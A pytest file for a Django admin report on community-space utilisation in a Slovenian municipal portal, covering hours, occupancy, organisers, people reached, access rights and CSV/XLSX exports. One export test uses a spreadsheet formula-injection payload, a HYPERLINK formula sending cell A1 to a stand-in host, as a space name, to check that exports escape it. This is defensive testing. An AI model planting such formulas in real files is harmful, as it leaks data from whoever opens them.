"""The utilisation report in the admin: hours open, hours used, utilisation, programmes and
organisers of each community space by month, for municipal editors and KS representatives."""

import csv
import datetime
import io

import openpyxl
import pytest
from django.contrib.auth import get_user_model
from django.contrib.auth.models import Permission
from django.urls import reverse

from portal.bookings.models import BookingDate, BookingRequest
from portal.events.models import DateChange
from portal.signups import booking as signup_booking
from portal.stakeholders.models import Stakeholder
from tests import builders
from tests.builders import at
from tests.programme_helpers import programme

pytestmark = pytest.mark.django_db

REPORT = "space_utilisation_report"
FRI, SAT, SUN = 4, 5, 6


def may(day):
    return datetime.date(2026, 5, day)


def calendar_of(ks):
    return builders.EventCalendarPage.objects.child_of(ks).get()


def booking(space, start, end, organisation="", email="ana@example.org", approved=True):
    request = BookingRequest.objects.create(
        space=space,
        name="Ana Novak",
        email=email,
        organisation=organisation,
        purpose="Vaja zbora",
        attendance=10,
        consent_at=start - datetime.timedelta(days=10),
        status=BookingRequest.Status.APPROVED if approved else BookingRequest.Status.PENDING,
    )
    BookingDate.objects.create(
        request=request, space=space, start=start, end=end, approved=approved
    )
    return request


def held(cal, space, title, day, start, end, **fields):
    """An event in `space` on `day` from the hour `start` to the hour `end`."""
    return builders.event(cal, title, start=at(day, start), end=at(day, end), space=space, **fields)


def stakeholder(name, ks=None):
    return Stakeholder.objects.create(name=name, sector="ngo", community=ks)


def report(client, **params):
    return client.get(reverse(REPORT), params)


def exported(client, export="csv", **params):
    """The rows of the CSV or XLSX export as lists of strings, the heading first."""
    response = report(client, export=export, **params)
    assert response.status_code == 200, response.status_code
    content = b"".join(response.streaming_content)
    if export == "csv":
        assert response["Content-Type"] == "text/csv"
        return list(csv.reader(io.StringIO(content.decode())))
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    return [["" if value is None else str(value) for value in row] for row in sheet.values]


def numbers(rows):
    """The rows with figures as numbers: a spreadsheet keeps 12.0 as 12."""

    def number(value):
        try:
            return float(value)
        except ValueError:
            return value

    return [[number(value) for value in row] for row in rows]


def figures(client, **params):
    """{(space, month): the row of the CSV export by its headings}."""
    heading, *rows = exported(client, **params)
    return {(row[1], row[2]): dict(zip(heading, row, strict=True)) for row in rows}


# --- The figures ---------------------------------------------------------------------------


@pytest.fixture
def dom(golnik_provisioned):
    """Open on Fridays 17–20; in May 2026 the 1st (Labour Day) opens 9–11, the 15th only
    10–12 and the 22nd is closed: 2 + 3 + 2 + 0 + 3 = 10 hours open."""
    return builders.space_with_hours(
        golnik_provisioned,
        "Dom krajanov",
        weekly=[(FRI, "17:00", "20:00")],
        exceptions=[
            (may(1), ("09:00", "11:00"), "Prvomajski zajtrk"),
            (may(15), ("10:00", "12:00"), ""),
            (may(22), "closed", "Beljenje"),
        ],
    )


@pytest.fixture
def may_in_dom(golnik_provisioned, dom):
    """What took Dom krajanov in May 2026, by the definitions of decision 0013."""
    cal = calendar_of(golnik_provisioned)
    cafe = programme("Popravljalnica", "repair_cafe", community=golnik_provisioned)
    garden = programme("Skupnostni vrt", "community_garden", community=golnik_provisioned)
    society = stakeholder("Kulturno društvo Golnik", golnik_provisioned)
    # 8 May: an event 17–19 and a booking 18–20 by the same society, written otherwise:
    # 17–20 counts once, one organiser.
    held(cal, dom, "Popravljalnica maja", may(8), 17, 19, programme=cafe, organiser=society)
    booking(dom, at(may(8), 18), at(may(8), 20), organisation="  kulturno  DRUŠTVO golnik ")
    # Weekly on the 15th and the 22nd, 10–11; the 22nd is cancelled: one hour.
    repeating = held(
        cal,
        dom,
        "Ob petkih",
        may(15),
        10,
        11,
        programme=cafe,
        frequency="WEEKLY",
        ends="after",
        count=2,
    )
    repeating.date_changes.add(DateChange(original_date=may(22), cancelled=True))
    repeating.save_revision().publish()
    # Saturday 16th 10–12, when the space is not open: 2 hours outside opening hours.
    held(cal, dom, "Sajenje", may(16), 10, 12, programme=garden, organiser=stakeholder("LUK"))
    # A cancelled event and a pending request take nothing.
    energy = programme("Energetsko svetovanje", "energy_advice", community=golnik_provisioned)
    held(cal, dom, "Odpovedano", may(29), 17, 20, programme=energy, status="cancelled")
    booking(dom, at(may(29), 19), at(may(29), 20), organisation="Čakajoči", approved=False)
    # Ana without an organisation, twice: one organiser; 29th 17–18 and 1st 9–10.
    booking(dom, at(may(29), 17), at(may(29), 18))
    booking(dom, at(may(1), 9), at(may(1), 10), email="ANA@example.org")
    return dom


def test_the_figures_of_a_month_follow_the_definitions(client, municipal, may_in_dom):
    client.force_login(municipal)
    row = figures(client, start="2026-05", end="2026-05", space=may_in_dom.pk)[
        ("Dom krajanov", "2026-05")
    ]
    assert row["Krajevna skupnost"] == "KS Golnik"
    assert row["Ur odprto"] == "10.0"
    # 3 (8th) + 1 (15th) + 2 (16th, outside) + 1 (29th) + 1 (1st) hours.
    assert row["Ur v uporabi"] == "8.0"
    assert row["Od tega zunaj odpiralnega časa"] == "2.0"
    assert row["Zasedenost (%)"] == "60.0"
    assert row["Programi"] == "2"
    # The society (event and booking), LUK, and Ana.
    assert row["Organizatorji"] == "3"


def test_the_page_shows_the_month_in_the_table_and_the_chart(client, municipal, may_in_dom):
    client.force_login(municipal)
    response = report(client, start="2026-04", end="2026-05", space=may_in_dom.pk)
    assert response.status_code == 200
    html = response.content.decode()
    table = html[html.index('<table class="listing') :]
    table = table[: table.index("</table>")]
    assert "<caption>Raba prostora Dom krajanov po mesecih, april 2026 – maj 2026" in table
    assert '<th scope="row">maj 2026</th>' in table
    for cell in ("10,0", "8,0", "2,0", "60,0 %"):
        assert f'<td class="utilisation-report__number">{cell}</td>' in table
    chart = html[html.index('<svg class="usage-chart"') :]
    chart = chart[: chart.index("</svg>")]
    assert 'role="img"' in chart and 'aria-labelledby="usage-chart-title usage-chart-desc"' in chart
    assert ">maj 2026</text>" in chart and ">60,0 %</text>" in chart
    # April: the space had opening hours and nothing took it.
    assert ">april 2026</text>" in chart and ">0,0 %</text>" in chart


def test_a_month_in_which_the_clocks_change_has_its_true_length(
    client, municipal, golnik_provisioned
):
    """Open all Sunday: 24 hours, but 23 on 29 March 2026, when clocks go forward; an event
    from 1.00 to 4.00 that night lasts two hours."""
    space = builders.space_with_hours(
        golnik_provisioned, "Nedeljski prostor", weekly=[(SUN, "00:00", "00:00")]
    )
    builders.event(
        calendar_of(golnik_provisioned),
        "Nočno opazovanje",
        start=at(datetime.date(2026, 3, 29), 1),
        end=at(datetime.date(2026, 3, 29), 4),
        space=space,
    )
    client.force_login(municipal)
    rows = figures(client, start="2026-03", end="2026-03", space=space.pk)
    row = rows[("Nedeljski prostor", "2026-03")]
    assert row["Ur odprto"] == "119.0"  # 4 × 24 + 23
    assert row["Ur v uporabi"] == "2.0"
    assert row["Zasedenost (%)"] == "1.7"


def test_use_of_a_space_without_opening_hours_is_counted_without_a_percentage(
    client, municipal, golnik_provisioned
):
    space = builders.space_with_hours(golnik_provisioned, "Klet")
    booking(space, at(may(6), 17), at(may(6), 19), organisation="Gasilci")
    client.force_login(municipal)
    row = figures(client, start="2026-05", end="2026-05")[("Klet", "2026-05")]
    assert (row["Ur odprto"], row["Ur v uporabi"], row["Od tega zunaj odpiralnega časa"]) == (
        "0.0",
        "2.0",
        "2.0",
    )
    assert row["Zasedenost (%)"] == ""
    html = report(client, start="2026-05", end="2026-05").content.decode()
    assert "ni odpiralnega časa" in html


def test_a_booking_shown_as_an_event_counts_its_time_once_and_its_organiser(
    client, municipal, golnik_provisioned, dom
):
    request = booking(dom, at(may(8), 17), at(may(8), 19), organisation="Pevski zbor")
    request.event = builders.event(
        calendar_of(golnik_provisioned),
        "Koncert",
        start=at(may(8), 17),
        end=at(may(8), 19),
        space=dom,
    )
    request.save()
    client.force_login(municipal)
    row = figures(client, start="2026-05", end="2026-05")[("Dom krajanov", "2026-05")]
    assert row["Ur v uporabi"] == "2.0"
    assert row["Organizatorji"] == "1"


# --- The period ---------------------------------------------------------------------------


def test_by_default_the_last_twelve_months_through_this_one(client, municipal, dom, clock):
    clock.set(at(datetime.date(2026, 11, 26), 12))
    client.force_login(municipal)
    months = [row[2] for row in exported(client)[1:]]
    assert months[0] == "2025-12" and months[-1] == "2026-11" and len(months) == 12
    html = report(client).content.decode()
    assert 'value="2025-12"' in html and 'value="2026-11"' in html


@pytest.mark.parametrize(
    ("params", "message"),
    [
        ({"start": "2026-13"}, "Mesec vpišite kot 2026-03 ali 3. 2026."),
        ({"start": "maj"}, "Mesec vpišite kot 2026-03 ali 3. 2026."),
        ({"end": "1850-01"}, "Izberite mesec med letoma 2000 in 2099."),
        ({"start": "2026-05", "end": "2026-04"}, "Obdobje se mora končati v mesecu"),
        ({"start": "2020-01", "end": "2026-12"}, "Izberete lahko največ 24 mesecev hkrati."),
        ({"space": "abc"}, "Izberite veljavno možnost."),
    ],
)
def test_a_bad_period_or_choice_is_refused_in_slovenian(client, municipal, dom, params, message):
    client.force_login(municipal)
    for export in ("", "csv"):
        response = report(client, export=export, **params)
        assert response.status_code == 400
        assert response["Content-Type"].startswith("text/html")
        html = response.content.decode()
        assert "Poročila za to izbiro ni mogoče prikazati:" in html
        assert message in html


def test_a_month_may_be_written_the_slovenian_way(client, municipal, may_in_dom):
    client.force_login(municipal)
    rows = figures(client, start="5. 2026", end="05.2026", space=may_in_dom.pk)
    assert list(rows) == [("Dom krajanov", "2026-05")]


def test_twenty_four_months_are_allowed(client, municipal, dom):
    client.force_login(municipal)
    assert len(exported(client, start="2025-01", end="2026-12")) == 1 + 24


# --- Who sees what -----------------------------------------------------------------------


def test_an_anonymous_visitor_is_sent_to_log_in(client):
    response = report(client)
    assert response.status_code == 302
    assert response["Location"].startswith(reverse("wagtailadmin_login"))


def test_a_ks_representative_sees_only_their_own_ks(
    client, golnik_provisioned, strazisce_provisioned, ks_editor
):
    builders.space_with_hours(
        golnik_provisioned, "Dom krajanov Golnik", weekly=[(FRI, "17:00", "20:00")]
    )
    foreign = builders.space_with_hours(
        strazisce_provisioned, "Prostor Stražišče", weekly=[(FRI, "17:00", "20:00")]
    )
    client.force_login(ks_editor)
    html = report(client).content.decode()
    assert "Dom krajanov Golnik" in html
    assert "Prostor Stražišče" not in html
    assert 'name="community"' not in html  # one KS: nothing to choose
    for export in ("csv", "xlsx"):
        spaces = {row[1] for row in exported(client, export=export)[1:]}
        assert spaces == {"Dom krajanov Golnik"}
        # Another KS named in the address changes nothing.
        spaces = {
            row[1]
            for row in exported(client, export=export, community=strazisce_provisioned.pk)[1:]
        }
        assert spaces == {"Dom krajanov Golnik"}
    refused = report(client, space=foreign.pk)
    assert refused.status_code == 400
    assert "Prostor Stražišče" not in refused.content.decode()
    assert report(client, space=foreign.pk, export="xlsx").status_code == 400


def test_the_report_is_in_the_reports_menu_of_editors_only(client, ks_editor):
    client.force_login(ks_editor)
    assert reverse(REPORT) in client.get(reverse("wagtailadmin_home")).content.decode()
    outsider = get_user_model().objects.create_user("urednik", password="x")
    outsider.user_permissions.add(Permission.objects.get(codename="access_admin"))
    client.force_login(outsider)
    assert reverse(REPORT) not in client.get(reverse("wagtailadmin_home")).content.decode()
    assert report(client).status_code in (302, 403)


def test_a_municipal_editor_sees_every_ks_and_may_narrow_to_one(
    client, golnik_provisioned, strazisce_provisioned, municipal
):
    builders.space_with_hours(
        golnik_provisioned, "Dom krajanov Golnik", weekly=[(FRI, "17:00", "20:00")]
    )
    builders.space_with_hours(
        strazisce_provisioned, "Prostor Stražišče", weekly=[(FRI, "17:00", "20:00")]
    )
    client.force_login(municipal)
    assert {row[1] for row in exported(client)[1:]} == {"Dom krajanov Golnik", "Prostor Stražišče"}
    narrowed = exported(client, community=strazisce_provisioned.pk)
    assert {row[1] for row in narrowed[1:]} == {"Prostor Stražišče"}
    html = report(client).content.decode()
    assert html.count('class="usage-chart__bar"') == 0  # nothing used yet: no bars drawn
    assert html.count('class="usage-chart__label"') == 2


def test_a_space_of_another_ks_than_the_one_chosen_is_refused(
    client, golnik_provisioned, strazisce_provisioned, municipal
):
    space = builders.space_with_hours(golnik_provisioned, "Dom krajanov Golnik")
    client.force_login(municipal)
    response = report(client, community=strazisce_provisioned.pk, space=space.pk)
    assert response.status_code == 400
    assert "Izbrani prostor ni v izbrani krajevni skupnosti." in response.content.decode()


# --- Exports -------------------------------------------------------------------------------


def test_csv_and_xlsx_have_the_same_figures_as_the_page(client, municipal, may_in_dom):
    client.force_login(municipal)
    params = {"start": "2026-04", "end": "2026-05", "space": may_in_dom.pk}
    as_csv = exported(client, "csv", **params)
    as_xlsx = exported(client, "xlsx", **params)
    assert (
        as_csv[0]
        == as_xlsx[0]
        == [
            "Krajevna skupnost",
            "Prostor",
            "Mesec",
            "Ur odprto",
            "Ur v uporabi",
            "Od tega zunaj odpiralnega časa",
            "Zasedenost (%)",
            "Programi",
            "Organizatorji",
            "Doseženi ljudje",
        ]
    )
    assert numbers(as_csv[1:]) == numbers(as_xlsx[1:])
    assert as_csv[2] == [
        "KS Golnik",
        "Dom krajanov",
        "2026-05",
        "10.0",
        "8.0",
        "2.0",
        "60.0",
        "2",
        "3",
        "0",
    ]
    response = report(client, export="xlsx", **params)
    assert 'filename="raba-prostorov-2026-04-2026-05.xlsx"' in response["Content-Disposition"]
    html = report(client, **params).content.decode()
    assert "export=csv" in html and "export=xlsx" in html


def test_no_requester_is_named_in_the_report(client, municipal, may_in_dom):
    client.force_login(municipal)
    params = {"start": "2026-05", "end": "2026-05"}
    everything = report(client, **params).content.decode() + str(exported(client, **params))
    assert "Ana" not in everything and "ana@example.org" not in everything.casefold()


# --- Queries -------------------------------------------------------------------------------


def fill(ks, spaces):
    """`spaces` spaces in `ks`, each with hours, an event, a booking and an exception."""
    for number in range(spaces):
        space = builders.space_with_hours(
            ks,
            f"Prostor {ks.title} {number}",
            weekly=[(FRI, "17:00", "20:00"), (SAT, "09:00", "12:00")],
            exceptions=[(may(15), "closed", "")],
        )
        builders.event(
            calendar_of(ks),
            f"Dogodek {number}",
            start=at(may(8), 17),
            space=space,
            programme=programme(f"Program {ks.title} {number}", community=ks),
        )
        booking(space, at(may(9), 9), at(may(9), 11), organisation=f"Društvo {number}")


# 16, and one for the people reached (`portal.signups.reach`).
REPORT_QUERIES = 17


@pytest.mark.parametrize(("communities", "spaces", "months"), [(1, 1, 1), (3, 4, 24)])
def test_the_report_reads_a_constant_number_of_queries(
    client, municipal, django_assert_num_queries, communities, spaces, months
):
    for number in range(communities):
        fill(builders.provisioned(f"KS {number}"), spaces)
    client.force_login(municipal)
    start = "2026-05" if months == 1 else "2025-01"
    end = "2026-05" if months == 1 else "2026-12"
    report(client, start=start, end=end)  # the admin's own one-off lookups
    with django_assert_num_queries(REPORT_QUERIES):
        response = report(client, start=start, end=end)
    assert response.content.decode().count('class="usage-chart__bar"') == communities * spaces
    with django_assert_num_queries(REPORT_QUERIES - 5):  # no count, no admin menu
        rows = exported(client, start=start, end=end)
    assert len(rows) == 1 + communities * spaces * months


@pytest.mark.parametrize("export", ["csv", "xlsx"])
def test_names_typed_by_editors_reach_the_files_as_text(
    client, golnik_provisioned, municipal, export
):
    """A KS representative names a space; the municipal editor who opens the report's file
    must not run what the name says."""
    hostile = '=HYPERLINK("http://zlo.example/?"&A1;"Kliknite")'
    builders.space_with_hours(golnik_provisioned, hostile, weekly=[(FRI, "17:00", "20:00")])
    client.force_login(municipal)
    params = {"start": "2026-04", "end": "2026-05"}
    heading, *rows = exported(client, export=export, **params)
    assert {row[1] for row in rows} == {"'" + hostile}
    assert [float(row[3]) for row in rows] == [12.0, 12.0]  # figures stay numbers


# --- People reached (sign-ups, decision 0039) -----------------------------------------------


def record_attendance(date, came, walk_ins):
    """What the organiser's attendance sheet records: who came, and walk-ins."""
    for signup in date.signups.all():
        signup.attended = signup.name in came
        signup.save(update_fields=["attended"])
    date.walk_ins = walk_ins
    date.attendance_recorded_at = at(date.start.date(), 22)
    date.save(update_fields=["walk_ins", "attendance_recorded_at"])


def test_people_reached_are_those_who_came_and_walk_ins_on_recorded_dates(
    client, municipal, golnik_provisioned, dom
):
    cal = calendar_of(golnik_provisioned)
    cafe = programme("Popravljalnica", "repair_cafe", community=golnik_provisioned)
    garden = programme("Skupnostni vrt", "community_garden", community=golnik_provisioned)

    def signed_up(title, day, programme_, people):
        event = builders.signup_event(
            cal,
            title,
            capacity=10,
            start=at(day, 17),
            end=at(day, 19),
            space=dom,
            programme=programme_,
        )
        date = builders.signup_date(event)
        for name, places in people:
            signup_booking.sign_up(
                date,
                name=name,
                email=f"{name.lower()}@example.org",
                places=places,
                added_by=municipal,
                mail=False,
            )
        return date

    # 8 May: Ana's party of 2 and Cvetka came, Bojan did not; 3 came without signing up.
    may8 = signed_up(
        "Popravljalnica z prijavo", may(8), cafe, [("Ana", 2), ("Bojan", 1), ("Cvetka", 1)]
    )
    record_attendance(may8, {"Ana", "Cvetka"}, walk_ins=3)
    # 16 May: the garden, 4 walk-ins and Darja.
    may16 = signed_up("Sajenje s prijavo", may(16), garden, [("Darja", 1)])
    record_attendance(may16, {"Darja"}, walk_ins=4)
    # 29 May: past, signed up, attendance not recorded yet: reaches no one so far.
    signed_up("Še brez udeležbe", may(29), cafe, [("Eva", 5)])

    client.force_login(municipal)
    row = figures(client, start="2026-05", end="2026-05", space=dom.pk)[("Dom krajanov", "2026-05")]
    assert row["Doseženi ljudje"] == "11"  # 2 + 1 + 3 on the 8th, 1 + 4 on the 16th
    heading = exported(client, start="2026-05", end="2026-05")[0]
    assert heading[-1] == "Doseženi ljudje"

    html = report(client, start="2026-04", end="2026-05", space=dom.pk).content.decode()
    months = html[html.index('<table class="listing') :]
    months = months[: months.index("</table>")]
    assert '<th scope="col" class="utilisation-report__number">Doseženi ljudje</th>' in months
    assert '<td class="utilisation-report__number">11</td>' in months
    reached = html[html.index("utilisation-report__reached") :]
    reached = reached[: reached.index("</table>")]
    assert "Doseženi ljudje po programih" in reached
    assert reached.index("Popravljalnica") < reached.index("Skupnostni vrt")  # most first
    assert '<th scope="row">Popravljalnica</th>\n' in reached or "Popravljalnica</th>" in reached
    cells = [
        cell.split("<")[0] for cell in reached.split('<td class="utilisation-report__number">')[1:]
    ]
    assert cells == ["6", "5"]
    assert "1 termin še čaka na vpis udeležbe." in " ".join(html.split())
    for name in ("Ana", "Cvetka", "Eva", "example.org"):
        assert name not in html
